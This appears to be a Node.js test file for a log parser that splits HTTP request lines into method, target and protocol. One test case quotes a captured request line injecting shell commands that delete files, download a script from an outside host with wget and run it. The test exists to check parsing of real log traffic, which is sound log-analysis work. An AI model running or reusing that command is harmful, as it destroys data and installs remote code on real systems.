import assert from 'node:assert/strict';
import { test } from 'node:test';
import { splitRequestLine } from '../../../../src/ingest/formats/common/request-line.js';

test('splitRequestLine splits method, target and protocol', () => {
  assert.deepEqual(splitRequestLine('GET /apache_pb.gif HTTP/1.0'), { method: 'GET', target: '/apache_pb.gif', protocol: 'HTTP/1.0' });
  assert.deepEqual(splitRequestLine('post /x HTTP/2'), { method: 'POST', target: '/x', protocol: 'HTTP/2' });
  assert.deepEqual(splitRequestLine('PROPFIND /c$ HTTP/1.1'), { method: 'PROPFIND', target: '/c$', protocol: 'HTTP/1.1' });
});

test('splitRequestLine keeps spaces inside the URI (ALB SpaceInUri)', () => {
  // Real line 5 of aws-alb.log.
  assert.deepEqual(splitRequestLine('GET http://127.0.0.1:80/shell?cd+/tmp;rm+-rf+*;wget+ a.tigoinari.tk/jaws;sh+/tmp/jaws HTTP/1.1'), {
    method: 'GET',
    target: 'http://127.0.0.1:80/shell?cd+/tmp;rm+-rf+*;wget+ a.tigoinari.tk/jaws;sh+/tmp/jaws',
    protocol: 'HTTP/1.1',
  });
});

test('splitRequestLine accepts HTTP/0.9 lines without a protocol', () => {
  assert.deepEqual(splitRequestLine('GET /'), { method: 'GET', target: '/', protocol: null });
  assert.deepEqual(splitRequestLine('GET /a b'), { method: 'GET', target: '/a b', protocol: null });
});

test('splitRequestLine rejects what is not a request', () => {
  for (const bad of [
    '',
    '-',
    '- - - ', // ELB classic TCP listener
    '- http://awseb.elb.amazonaws.com:80- -', // ALB malformed
    '\\x16\\x03\\x01\\x01 \\x02', // TLS handshake on a plain port, Apache-escaped
    'H\\x00\\x00\\x00tj\\xA8 x',
    'MGLNDD_1.2.3.4_80',
    '<BADREQ>',
    'GET',
    'GET  HTTP/1.1',
  ]) {
    assert.equal(splitRequestLine(bad), null, JSON.stringify(bad));
  }
});
